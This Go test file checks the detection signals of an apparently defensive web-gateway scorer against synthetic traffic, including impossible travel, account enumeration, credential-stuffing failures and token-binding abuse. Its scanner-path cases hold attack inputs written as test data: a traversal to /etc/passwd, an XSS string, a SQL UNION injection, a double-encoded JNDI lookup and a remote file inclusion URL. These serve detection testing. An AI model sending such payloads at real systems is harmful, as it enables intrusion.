package evidence_test

import (
	"fmt"
	"maps"
	"math"
	"testing"
	"time"

	"github.com/vigil-gateway/vigil/schemas/event"
	"github.com/vigil-gateway/vigil/schemas/verdict"
	"github.com/vigil-gateway/vigil/scorer/entity"
	"github.com/vigil-gateway/vigil/scorer/evidence"
	"github.com/vigil-gateway/vigil/scorer/model"
	"github.com/vigil-gateway/vigil/scorer/profile"
)

const (
	chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	newer  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36"
	mac    = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)

// params are those of the model that ships, with every signal on.
func params() evidence.Params {
	p := evidence.Params{Confidence: 3, Concentration: 2, Kappa: 0.1, Tail: 2.5, Look: 1.5, Releases: true}
	for i := range p.On {
		p.On[i], p.Max[i] = true, 20
	}
	return p
}

// step is one event of a case; in is the time since the one before.
type step struct {
	in time.Duration
	ev *event.RequestEvent
}

// signalCase plays a few events and looks at what one signal says about the
// last: at least and at most so many nats, 0 and 0 for silence.
type signalCase struct {
	signal      evidence.Signal
	anonymous   bool
	steps       []step
	least, most float64
	weak        bool
}

// world is an actor whose subject has thirty clean sessions from Berlin.
type world struct {
	agents   evidence.Agents
	collect  *evidence.Collector
	session  *entity.Session
	subject  *entity.Subject
	tenant   *entity.Tenant
	accounts map[string]*entity.Account
	// addresses are those who show no credential.
	addresses map[string]*entity.Session
	gateways  entity.Gateways
	asns      *entity.Table[entity.ASN]
	now       int64
}

// shipped is the model that ships; who reads it anew for every world waits for that
// most of the time.
var shipped = model.Default()

func newWorld(anonymous bool) *world {
	w := &world{collect: evidence.NewCollector(params()), session: &entity.Session{Key: entity.Key{Kind: verdict.TargetSession, ID: "now"}}, tenant: &entity.Tenant{}, accounts: map[string]*entity.Account{}, addresses: map[string]*entity.Session{}, now: int64(1e18)}
	if anonymous {
		return w
	}
	w.subject = &entity.Subject{Total: 212}
	for range 30 {
		var p entity.Pending
		p.Note(entity.Countries, "DE")
		p.Note(entity.Networks, "AS3320")
		p.Note(entity.Families, "Chrome")
		p.Note(entity.Systems, "Chrome on Windows")
		p.Note(entity.Devices, "laptop")
		p.Note(entity.Routes, "/accounts/{id}")
		p.Note(entity.Prefixes, "198.51.150.0/24")
		p.Note(entity.JA4s, "Chrome t13d1516h2_8daaf6152771")
		for range 10 {
			p.Samples.Add(entity.Rate, profile.Bucket(4))
			p.Samples.Add(entity.MinuteBytes, profile.Bucket(10000))
		}
		p.Samples.Add(entity.HourBytes, profile.Bucket(100000))
		p.Samples.Add(entity.Breadths, profile.Bucket(3))
		for hour := range 12 { // From Saturday to Monday, before noon.
			p.Hour(hour)
			p.Hour(5*24 + hour)
			p.Hour(6*24 + hour)
		}
		p.Samples.Add(entity.Runs, profile.Bucket(1))
		w.subject.Learn(&p, w.now, &shipped.Learning, false)
		w.tenant.Subjects.Learn(&p, w.now, 30*24*time.Hour, 1)
	}
	for i := range 200 {
		w.tenant.Sizes.Learn(evidence.Hash("/accounts/{id}"), profile.Bucket(10000), 1)
		w.tenant.Beats.Add(profile.Bucket(float64(60+i)), 1)
		w.tenant.Subjects.Kinds[entity.Routes].Add("/accounts/{id}", 1, 100)
		w.tenant.Subjects.Kinds[entity.Routes].Add("/editor", 1, 100)
		w.tenant.Flagged.Add("/editor", 1, 100)
	}
	for range 5 {
		w.subject.Kinds[entity.Networks].Add("AS1136", 1, 12)
	}
	w.subject.LastPlace = entity.Place{Country: profile.NameOf("DE"), Network: profile.NameOf("AS3320"), Latitude: 52.5, Longitude: 13.4, HasLocation: true, Last: w.now - int64(time.Hour)}
	w.subject.LastSession = evidence.Hash("before")
	w.ordered()
	return w
}

// see collects the evidence of one event, by signal.
func (w *world) see(s step) map[evidence.Signal]evidence.Finding {
	w.now += int64(s.in)
	found := map[evidence.Signal]evidence.Finding{}
	x := &evidence.Context{
		Event: s.ev, Now: w.now, At: w.now, Session: w.session, Subject: w.subject, Tenant: w.tenant, ASNs: w.asns,
		Agent: w.agents.Of(s.ev.GetUserAgent()), Network: evidence.NetworkOf(s.ev),
	}
	if s.ev.GetGateway() != "" {
		x.Gateway = w.gateways.Seen(s.ev.GetGateway(), 0, s.ev.GetKind() == event.KindTick, s.ev.GetSeq(), w.now)
	}
	if s.ev.GetAuthOutcome() != "" {
		x.Account = w.account(s.ev.GetAccount())
	}
	if w.subject == nil {
		x.Session = w.anonymous(s.ev.GetAddress())
	}
	for _, f := range w.collect.Collect(x) {
		found[f.Signal] = f
	}
	if s.ev.GetAttributes()[event.AttributeQuery] != "" { // Each query is a session that teaches.
		for _, z := range x.Session.Pending.Sizes {
			w.tenant.Sizes.Learn(z.Template(), z.Bucket(), 1)
		}
		x.Session.Pending.Sizes = nil
	}
	return found
}

func (w *world) account(name string) *entity.Account {
	if w.accounts[name] == nil {
		w.accounts[name] = &entity.Account{}
	}
	return w.accounts[name]
}

// anonymous is the session of an address.
func (w *world) anonymous(address string) *entity.Session {
	if w.addresses[address] == nil {
		w.addresses[address] = &entity.Session{Key: entity.Key{Kind: verdict.TargetAddress, ID: address}}
	}
	return w.addresses[address]
}

// from returns an event at a place; what it lacks is unknown.
func from(country string, asn uint32, lat, lon float64, agent string, tags ...string) *event.RequestEvent {
	e := &event.RequestEvent{Country: country, Asn: asn, Address: fmt.Sprintf("198.51.%d.7", asn%250+80), UserAgent: agent, Status: 200, NetworkTags: tags}
	if lat != 0 {
		e.Latitude, e.Longitude = &lat, &lon
	}
	return e
}

func with(e *event.RequestEvent, change func(*event.RequestEvent)) *event.RequestEvent {
	change(e)
	return e
}

func berlin() *event.RequestEvent { return from("DE", 3320, 52.5, 13.4, chrome) }
func saopaulo(agent string, tags ...string) *event.RequestEvent {
	return from("BR", 64500, -23.5, -46.6, agent, tags...)
}

func path(p string, status uint32) *event.RequestEvent {
	return &event.RequestEvent{Address: "203.0.113.9", Path: p, Status: status, UserAgent: "x"}
}

// asked is a page of the site with a query.
func asked(query string) *event.RequestEvent {
	return with(path("/search", 200), func(e *event.RequestEvent) { e.Attributes = map[string]string{event.AttributeQuery: query} })
}

// foreign is what a web server logs of a client that does not speak HTTP.
func foreign(text string) *event.RequestEvent {
	return with(path("", 400), func(e *event.RequestEvent) { e.Attributes = map[string]string{event.AttributeRequest: text} })
}

func signIn(outcome, account string) *event.RequestEvent {
	return &event.RequestEvent{Address: "203.0.113.9", Method: "POST", Path: "/login", Status: 401, AuthOutcome: outcome, Account: account}
}

func resource(id string, status uint32) *event.RequestEvent {
	return with(berlin(), func(e *event.RequestEvent) { e.Template, e.Resource, e.Status = "/accounts/{id}", id, status })
}

// many returns n events, one every so often.
func many(n int, every time.Duration, each func(i int) *event.RequestEvent) []step {
	var steps []step
	for i := range n {
		steps = append(steps, step{every, each(i)})
	}
	return steps
}

// TestSignals plays the cases of this package.
func TestSignals(t *testing.T) {
	socket := func(phase string) *event.RequestEvent {
		return with(berlin(), func(e *event.RequestEvent) { e.Phase, e.RequestId, e.Stream = phase, "ws", "websocket" })
	}
	download := func(mib uint64) *event.RequestEvent {
		return with(berlin(), func(e *event.RequestEvent) { e.Phase, e.RequestId, e.BytesOut = event.PhaseTick, "dl", mib<<20 })
	}
	bound := func(binding, device string) *event.RequestEvent {
		return with(berlin(), func(e *event.RequestEvent) { e.TokenId, e.Binding, e.Device = "t", binding, device })
	}
	tests := map[string]signalCase{
		"a country that is new":                    {evidence.NewCountry, false, []step{{0, saopaulo(chrome)}}, 4, 20, true},
		"the usual country":                        {evidence.NewCountry, false, []step{{0, berlin()}}, 0, 0, false},
		"an unknown country is no country":         {evidence.NewCountry, false, []step{{0, from("", 3320, 0, 0, chrome)}}, 0, 0, false},
		"a new country counts once":                {evidence.NewCountry, false, []step{{0, saopaulo(chrome)}, {0, saopaulo(chrome)}}, 0, 0, false},
		"a VPN's country counts half":              {evidence.NewCountry, false, []step{{0, saopaulo(chrome, "vpn")}}, 1, 4, true},
		"a network that is new":                    {evidence.NewNetwork, false, []step{{0, from("DE", 8881, 52.5, 13.4, chrome)}}, 2, 20, true},
		"the network of a new country is no news":  {evidence.NewNetwork, false, []step{{0, saopaulo(chrome)}}, 0, 0, false},
		"no network is no network":                 {evidence.NewNetwork, false, []step{{0, with(berlin(), func(e *event.RequestEvent) { e.Asn, e.Address = 0, "unparsable" })}}, 0, 0, false},
		"across the ocean in an hour":              {evidence.ImpossibleTravel, false, []step{{0, saopaulo(chrome)}}, 3, 5, true},
		"across the ocean in a day":                {evidence.ImpossibleTravel, false, []step{{24 * time.Hour, saopaulo(chrome)}}, 0, 0, false},
		"without coordinates nobody travels":       {evidence.ImpossibleTravel, false, []step{{0, from("BR", 64500, 0, 0, chrome)}}, 0, 0, false},
		"coordinates off the earth are none":       {evidence.ImpossibleTravel, false, []step{{0, from("BR", 64500, 1000, math.NaN(), chrome)}}, 0, 0, false},
		"a radius as wide as the ocean":            {evidence.ImpossibleTravel, false, []step{{0, with(saopaulo(chrome), func(e *event.RequestEvent) { e.AccuracyRadiusKm = 10000 })}}, 0, 0, false},
		"a socket at home and a script abroad":     {evidence.ConcurrentPlaces, false, []step{{0, socket(event.PhaseOpen)}, {5 * time.Second, socket(event.PhaseTick)}, {time.Second, saopaulo("curl/8")}}, 15, 20, false},
		"the same without a socket":                {evidence.ConcurrentPlaces, false, []step{{0, berlin()}, {time.Second, saopaulo("curl/8")}}, 9, 12, false},
		"the same client in both places":           {evidence.ConcurrentPlaces, false, []step{{0, berlin()}, {time.Second, saopaulo(chrome)}}, 2, 6, true},
		"a VPN in between":                         {evidence.ConcurrentPlaces, false, []step{{0, berlin()}, {time.Second, saopaulo("curl/8", "vpn")}}, 4, 6, true},
		"two hours later it is not concurrent":     {evidence.ConcurrentPlaces, false, []step{{0, berlin()}, {2 * time.Hour, saopaulo("curl/8")}}, 0, 0, false},
		"a closed socket is closed":                {evidence.ConcurrentPlaces, false, []step{{0, socket(event.PhaseOpen)}, {time.Second, socket(event.PhaseClose)}, {2 * time.Minute, saopaulo("curl/8")}}, 0, 0, false},
		"Wi-Fi and mobile network in one town":     {evidence.ConcurrentPlaces, false, []step{{0, socket(event.PhaseOpen)}, {time.Second, from("DE", 8881, 52.6, 13.3, chrome)}}, 0, 0, false},
		"two networks, place unknown, two clients": {evidence.ConcurrentPlaces, false, []step{{0, from("", 1, 0, 0, chrome)}, {time.Second, from("", 2, 0, 0, "curl/8")}}, 4, 6, true},
		"another program":                          {evidence.NewFamily, false, []step{{0, from("DE", 3320, 52.5, 13.4, "python-requests/2.31")}}, 3, 20, true},
		"a new version is nothing new":             {evidence.NewFamily, false, []step{{0, from("DE", 3320, 52.5, 13.4, newer)}}, 0, 0, false},
		"the same program on another system":       {evidence.NewFamily, false, []step{{0, from("DE", 3320, 52.5, 13.4, mac)}}, 0.5, 1.5, true},
		"no user agent is no client":               {evidence.NewFamily, false, []step{{0, from("DE", 3320, 52.5, 13.4, "")}}, 0, 0, false},
		"another device key":                       {evidence.NewDevice, false, []step{{0, with(berlin(), func(e *event.RequestEvent) { e.Device = "stranger" })}}, 2, 20, true},
		"the usual device key":                     {evidence.NewDevice, false, []step{{0, with(berlin(), func(e *event.RequestEvent) { e.Device = "laptop" })}}, 0, 0, false},
		"a page never used":                        {evidence.NeverSeenRoute, false, []step{{0, with(berlin(), func(e *event.RequestEvent) { e.Template, e.Sensitivity = "/admin", "critical" })}}, 2, 20, true},
		"a page used every day":                    {evidence.NeverSeenRoute, false, []step{{0, resource("1", 200)}}, 0, 0, false},
		"two hundred requests in a minute":         {evidence.RequestRate, false, many(200, 100*time.Millisecond, func(int) *event.RequestEvent { return berlin() }), 4, 20, true},
		"four requests in a minute, as always":     {evidence.RequestRate, false, many(4, 10*time.Second, func(int) *event.RequestEvent { return berlin() }), 0, 0, false},
		"an address is never more than fast":       {evidence.RequestRate, true, many(2000, 10*time.Millisecond, func(int) *event.RequestEvent { return path("/", 200) }), 0, 4, true},
		"a gigabyte through one stream":            {evidence.BytesOut, false, []step{{0, download(10)}, {time.Second, download(1000)}}, 10, 20, true},
		"a stream's counter is not a sum": {evidence.BytesOut, false, many(50, time.Second, func(int) *event.RequestEvent {
			return with(download(0), func(e *event.RequestEvent) { e.BytesOut = 9000 })
		}), 0, 0, false},
		"twenty ids in a row":                     {evidence.SequentialIDs, false, many(20, time.Second, func(i int) *event.RequestEvent { return resource(fmt.Sprint(500+i), 200) }), 9, 20, false},
		"twenty ids backwards in steps of seven":  {evidence.SequentialIDs, false, many(20, time.Second, func(i int) *event.RequestEvent { return resource(fmt.Sprint(900-7*i), 200) }), 9, 20, false},
		"ids with a prefix":                       {evidence.SequentialIDs, false, many(20, time.Second, func(i int) *event.RequestEvent { return resource(fmt.Sprint("acc-", 500+i), 200) }), 9, 20, false},
		"forty ids in no order":                   {evidence.SequentialIDs, false, many(40, time.Second, func(i int) *event.RequestEvent { return resource(fmt.Sprint(i*7919%104729), 200) }), 5, 20, false},
		"three ids in a row":                      {evidence.SequentialIDs, false, many(3, time.Second, func(i int) *event.RequestEvent { return resource(fmt.Sprint(i), 200) }), 0, 0, false},
		"one id over and over":                    {evidence.SequentialIDs, false, many(50, time.Second, func(int) *event.RequestEvent { return resource("7", 200) }), 0, 0, false},
		"refused ids weigh more":                  {evidence.SequentialIDs, false, many(10, time.Second, func(i int) *event.RequestEvent { return resource(fmt.Sprint(i), 403) }), 9, 20, false},
		"a crawler reads a list":                  {evidence.SequentialIDs, true, many(90, time.Second, func(i int) *event.RequestEvent { return path(fmt.Sprint("/page/", i), 200) }), 3, 5, false},
		"twenty paths that are not there":         {evidence.NotFoundShare, true, many(20, time.Second, func(i int) *event.RequestEvent { return path(fmt.Sprint("/guess-", i), 404) }), 12, 20, false},
		"twenty pictures that are not there":      {evidence.NotFoundShare, true, many(20, time.Second, func(i int) *event.RequestEvent { return path(fmt.Sprint("/p", i, ".png"), 404) }), 0, 2, false},
		"one dead link over and over":             {evidence.NotFoundShare, true, many(50, time.Second, func(int) *event.RequestEvent { return path("/dead", 404) }), 0, 0, false},
		"a dead link among many that work":        {evidence.NotFoundShare, true, many(60, time.Second, func(i int) *event.RequestEvent { return path(fmt.Sprint("/p-", i), []uint32{200, 200, 404}[i%3]) }), 0, 0, false},
		"twelve accounts fail from one address":   {evidence.FailuresByAddress, true, many(12, time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), 14, 20, false},
		"a program fails six times on an account": {evidence.FailuresByAddress, true, many(6, time.Second, func(int) *event.RequestEvent { return signIn(event.AuthFailure, "a") }), 8, 10, false},
		"a program never stops at an account":     {evidence.FailuresByAddress, true, many(30, time.Second, func(int) *event.RequestEvent { return signIn(event.AuthFailure, "a") }), 10, 14, false},
		"somebody types one password wrong":       {evidence.FailuresByAddress, true, many(7, 8*time.Second, func(int) *event.RequestEvent { return signIn(event.AuthFailure, "a") }), 4, 7, false},
		"a mail program with an old password":     {evidence.FailuresByAddress, true, many(40, 5*time.Minute, func(int) *event.RequestEvent { return signIn(event.AuthFailure, "a") }), 2, 8, false},
		"a resident's program has an old password": {evidence.FailuresByAddress, false, append([]step{{0, signIn(event.AuthSuccess, "a")}},
			many(8, time.Second, func(int) *event.RequestEvent { return signIn(event.AuthFailure, "a") })...), 0, 0, false},
		"every fifth fails in an office": {evidence.FailuresByAddress, true, many(51, time.Second, func(i int) *event.RequestEvent {
			return signIn([]string{event.AuthFailure, event.AuthSuccess, event.AuthSuccess, event.AuthSuccess, event.AuthSuccess}[i%5], fmt.Sprint(i))
		}), 0, 2, false},
		"failures that took place long ago":  {evidence.FailuresByAddress, true, append(many(12, time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), step{5 * time.Hour, signIn(event.AuthFailure, "z")}), 1, 2, false},
		"ten refused posts to a sign-in":     {evidence.LoginRate, true, many(10, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 8, 20, false},
		"three refused posts to a sign-in":   {evidence.LoginRate, true, many(3, 10*time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 0, 2, false},
		"three refused posts within seconds": {evidence.LoginRate, true, many(3, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 4, 5, false},
		"seven posts of one client within seconds, answered 200": {evidence.LoginRate, true, many(7, 500*time.Millisecond, func(int) *event.RequestEvent {
			return with(signIn("", ""), func(e *event.RequestEvent) { e.Status = 200 })
		}), 9, 12, false},
		"a sign-in in three steps": {evidence.LoginRate, true, many(3, 2*time.Second, func(int) *event.RequestEvent {
			return with(signIn("", ""), func(e *event.RequestEvent) { e.Status = 200 })
		}), 0, 1, false},
		"phones behind one address that fetch their tokens": {evidence.LoginRate, true, many(30, time.Second, func(int) *event.RequestEvent {
			return with(signIn("", ""), func(e *event.RequestEvent) { e.Path, e.Status = "/oauth/token", 200 })
		}), 0, 1, false},
		"four accounts fail, six seconds apart": {evidence.FailuresByAddress, true, many(4, 6*time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), 8, 9, false},
		"four accounts fail, a minute apart":    {evidence.FailuresByAddress, true, many(4, time.Minute, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), 5, 6.5, false},
		"five failures of nobody knows whom":    {evidence.FailuresByAddress, true, many(5, time.Second, func(int) *event.RequestEvent { return signIn(event.AuthFailure, "") }), 9, 10, false},
		"a server's inside":                     {evidence.ScannerPaths, true, []step{{0, path("/s/x/_/;/WEB-INF/web.xml", 404)}}, 9, 9, false},
		"a copy that an editor left behind":     {evidence.ScannerPaths, true, []step{{0, path("/index.php.bak", 404)}}, 3, 3, false},
		"a script that was escaped":             {evidence.ScannerPaths, true, []step{{0, asked("name=%26lt;script%26gt;alert(1)")}}, 9, 9, false},
		"a file elsewhere is included": {evidence.ScannerPaths, true, []step{{0, with(path("/a.php", 404), func(e *event.RequestEvent) {
			e.Attributes = map[string]string{event.AttributeQuery: "page=1&inc=http://evil.example/x.txt??"}
		})}}, 3, 3, false},
		"a link elsewhere is followed": {evidence.ScannerPaths, false, []step{{0, with(path("/go", 404), func(e *event.RequestEvent) {
			e.Attributes = map[string]string{event.AttributeQuery: "to=http://friend.example/x?y=1"}
		})}}, 0, 0, false},
		"seven posts to an account that nobody knows": {evidence.LoginRate, true, many(7, 6*time.Second, func(int) *event.RequestEvent {
			return with(signIn("", ""), func(e *event.RequestEvent) { e.Status = 404 })
		}), 6, 9, false},
		"an environment file":                 {evidence.ScannerPaths, true, []step{{0, path("/app/.env", 404)}}, 3, 3, false},
		"a traversal":                         {evidence.ScannerPaths, true, []step{{0, path("/static/%2e%2e/%2E%2E/etc/passwd", 400)}}, 9, 9, false},
		"the login of a blog that is one":     {evidence.ScannerPaths, true, []step{{0, path("/wp-login.php", 200)}}, 0.5, 1, false},
		"what is well known may be asked for": {evidence.ScannerPaths, true, []step{{0, path("/.well-known/security.txt", 404)}}, 0, 0, false},
		"a console that is there is read":     {evidence.ScannerPaths, true, many(9, time.Second, func(i int) *event.RequestEvent { return path(fmt.Sprint("/nagios/view-", i), 200) }), 0, 1, false},
		"a console that is not is sought":     {evidence.ScannerPaths, true, many(3, time.Second, func(i int) *event.RequestEvent { return path(fmt.Sprint("/nagios/view-", i), 404) }), 8.9, 9, false},
		"an injection in a query":             {evidence.ScannerPaths, true, []step{{0, asked("q=1%27+UNION%20Select+null")}}, 9, 9, false},
		"an injection that is encoded twice":  {evidence.ScannerPaths, true, []step{{0, asked("q=%2524%257Bjndi:ldap://x%257d")}}, 9, 9, false},
		"a request to an inside address":      {evidence.ScannerPaths, true, []step{{0, asked("url=http://10.0.0.1/")}}, 0.5, 1, false},
		"a query may name a console":          {evidence.ScannerPaths, true, []step{{0, asked("next=/wp-admin/&page=../list")}}, 0, 0, false},
		"an attack tool by its name":          {evidence.ScannerPaths, true, []step{{0, with(path("/", 200), func(e *event.RequestEvent) { e.UserAgent = "Mozilla/5.00 (Nikto/2.5.0)" })}}, 9, 9, false},
		"many protocols, none of them HTTP":   {evidence.ScannerPaths, true, many(5, time.Second, func(i int) *event.RequestEvent { return foreign(fmt.Sprint(i, "-hello")) }), 14, 15, false},
		"one protocol at the wrong door":      {evidence.ScannerPaths, true, many(50, time.Second, func(i int) *event.RequestEvent { return foreign(fmt.Sprint("\x16\x03\x01", i)) }), 2.5, 3, false},
		"an ordinary page":                    {evidence.ScannerPaths, true, []step{{0, path("/about/environment", 200)}}, 0, 0, false},
		"one token, two keys":                 {evidence.TwoKeys, false, []step{{0, bound(event.BindingDPoP, "a")}, {0, bound(event.BindingDPoP, "b")}}, 20, 20, false},
		"one token, one key":                  {evidence.TwoKeys, false, []step{{0, bound(event.BindingDPoP, "a")}, {0, bound(event.BindingDPoP, "a")}}, 0, 0, false},
		"a bound token without its proof":     {evidence.LostProof, false, []step{{0, bound(event.BindingMTLS, "a")}, {0, bound(event.BindingNone, "")}}, 20, 20, false},
		"a bound token that was refused":      {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonTokenBound)}}, 20, 20, false},
		"a proof by another key":              {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonProofKey)}}, 20, 20, false},
		"a forged proof":                      {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonProofForged)}}, 20, 20, false},
		"a replayed proof":                    {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonProofReplayed)}}, 20, 20, false},
		"a proof that was sent twice":         {evidence.LostProof, false, []step{{0, refusedFor("dpop_repeated")}}, 0, 0, false},
		"a token that never had a proof":      {evidence.LostProof, false, []step{{0, bound(event.BindingNone, "")}, {0, bound(event.BindingNone, "")}}, 0, 0, false},
	}
	for _, more := range []map[string]signalCase{credentialCases(), identityCases(), behaviourCases(), orderCases()} {
		maps.Copy(tests, more)
	}
	covered := map[evidence.Signal]bool{ // Others have tests of their own: package anomaly, TestSuspiciousNetwork, TestOverlapping.
		evidence.Anomaly: true, evidence.SuspiciousNetwork: true, evidence.Overlapping: true,
	}
	for name, tt := range tests {
		covered[tt.signal] = true
		t.Run(name, func(t *testing.T) {
			w := newWorld(tt.anonymous)
			var got map[evidence.Signal]evidence.Finding
			for _, s := range tt.steps {
				got = w.see(s)
			}
			f := got[tt.signal]
			if math.IsNaN(f.Nats) || f.Nats < tt.least || f.Nats > tt.most {
				t.Errorf("%s says %.2f nats (%s), want %g to %g", tt.signal.Describe().ID, f.Nats, f.Text, tt.least, tt.most)
			}
			if f.Nats > 0 && f.Strong == tt.weak {
				t.Errorf("strong is %v", f.Strong)
			}
		})
	}
	for s := range evidence.Signal(evidence.Count) {
		d := s.Describe()
		if !covered[s] && !d.Facet || d.ID == "" || d.Technique == "" || d.Formula == "" || d.Needs == "" || d.Innocent == "" {
			t.Errorf("signal %d %q: covered %v, %+v", s, d.ID, covered[s], d)
		}
		back, ok := evidence.Lookup(d.ID)
		if !ok || back != s {
			t.Errorf("Lookup(%q) = %v", d.ID, back)
		}
	}
}

// TestSlotsHoldTheCatalogue keeps the sizes of an entity's suspicion and the
// catalogue together.
func TestSlotsHoldTheCatalogue(t *testing.T) {
	if evidence.Count > entity.SignalSlots || evidence.GroupCount > entity.GroupSlots {
		t.Errorf("%d signals in %d groups do not fit %d and %d slots", evidence.Count, evidence.GroupCount, entity.SignalSlots, entity.GroupSlots)
	}
}

// TestAgentsAreBounded parses more user agents than are remembered.
func TestAgentsAreBounded(t *testing.T) {
	var a evidence.Agents
	want := a.Of(chrome)
	for i := range 10000 {
		a.Of(fmt.Sprint("agent", i))
	}
	if got := a.Of(chrome); got != want || got.Family != "Chrome" {
		t.Errorf("Of(chrome) = %+v, was %+v", got, want)
	}
}
